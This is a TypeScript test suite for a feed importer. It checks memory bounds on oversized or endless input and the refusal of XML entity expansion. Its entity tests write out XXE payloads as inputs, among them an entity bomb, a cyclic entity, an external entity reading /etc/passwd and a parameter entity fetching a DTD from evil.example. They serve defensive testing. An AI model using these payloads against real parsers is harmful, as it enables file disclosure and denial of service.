import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { importing } from './import.ts'

const run = promisify(execFile)
const script = fileURLToPath(new URL('./huge-feed.ts', import.meta.url))

type Found = { ids: string[]; issues: string[]; skipped: number }

/** Imports so many megabytes of each kind in a process whose heap may hold less. */
async function huge(megabytes: number, heap: number, ...kinds: string[]): Promise<Record<string, Found>> {
  const args = [`--max-old-space-size=${heap}`, '--import', 'tsx', script, String(megabytes), ...kinds]
  return JSON.parse((await run(process.execPath, args)).stdout)
}

describe('an import in bounded memory', () => {
  it('refuses a title of 100 MB and reads on', async () => {
    const { text } = await huge(100, 64, 'text')
    assert.deepEqual(text, { ids: ['first', 'good'], issues: ['1: title: longer than 100000 characters'], skipped: 1 })
  })

  it('refuses an endless row and reads on', async () => {
    const expected: Record<string, RegExp> = {
      cdata: /title: longer than/,
      quote: /too long: a quote before it may never have been closed/,
      delimiters: /too long/,
      utf8: /too long/,
    }
    const found = await huge(34, 32, ...Object.keys(expected))
    for (const [kind, issue] of Object.entries(expected)) {
      assert.ok(found[kind]!.ids.includes('good'), kind)
      assert.match(found[kind]!.issues[0]!, issue)
    }
  })

  it('refuses a row of countless fields, and leaves out countless parts of one', async () => {
    const { fields, parts } = await huge(4, 32, 'fields', 'parts')
    assert.deepEqual([fields!.ids, fields!.skipped], [['good'], 1])
    assert.match(fields!.issues[0]!, /more than 2000 values/)
    assert.deepEqual(parts!.ids, ['good'])
  })

  it('reads over an endless comment and an endless attribute', async () => {
    const { comment, attribute } = await huge(34, 32, 'comment', 'attribute')
    assert.deepEqual([comment!.ids, attribute!.ids], [['good'], ['good']])
  })

  it('refuses a file that is endless where no row could follow', async () => {
    const expected: Record<string, RegExp> = {
      attributes: /more than 100 attributes/,
      name: /a name or entity of more than/,
      entity: /a name or entity of more than/,
      depth: /more than 32 deep/,
      doctype: /outside of any element/,
      entities: /outside of any element|defines its own entities/,
      blank: /begins with nothing but blanks/,
    }
    const found = await huge(36, 32, ...Object.keys(expected))
    for (const [kind, issue] of Object.entries(expected)) {
      assert.deepEqual(found[kind]!.ids, [], kind)
      assert.match(found[kind]!.issues[0]!, issue)
    }
  })
})

describe('an import never expands entities', () => {
  const refusal = /defines its own entities, which a feed has no need of and an attack has: refused/
  for (const [name, subset] of [
    ['a bomb', '<!ENTITY a "0123456789"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'],
    ['a cycle', '<!ENTITY a "&b;"><!ENTITY b "&a;">'],
    ['a file', '<!ENTITY a SYSTEM "file:///etc/passwd">'],
    ['an address', '<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;'],
  ]) {
    it(`of ${name}`, async () => {
      const { rows, issues } = await importing(`<!DOCTYPE rss [${subset}]><rss><channel><item><id>1</id><title>&a;</title><link>https://shop.example/</link></item></channel></rss>`)
      assert.deepEqual(rows, [])
      assert.match(issues[0]!, refusal)
    })
  }
  it('of a document type kept elsewhere, which it does not fetch', async () => {
    const { rows } = await importing('<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd"><rss><channel><item><id>1</id><title>T&a;</title><link>https://shop.example/</link></item></channel></rss>')
    assert.equal(rows[0]!.item.title, 'T&a;')
  })

  const folder = fileURLToPath(new URL('../../../../shared/data/malicious/xml/', import.meta.url))
  it('of known attacks', { skip: !existsSync(folder) && 'needs ../shared/data' }, async () => {
    for (const name of readdirSync(folder).filter((it) => /\.x[ms]l$/.test(it))) {
      const data = readFileSync(folder + name)
      const { rows, issues } = await importing(data)
      assert.deepEqual(rows, [], name)
      assert.match(issues[0]!, /<!ENTITY/.test(data.toString()) ? refusal : /no item or entry was found/, name)
    }
  })
})
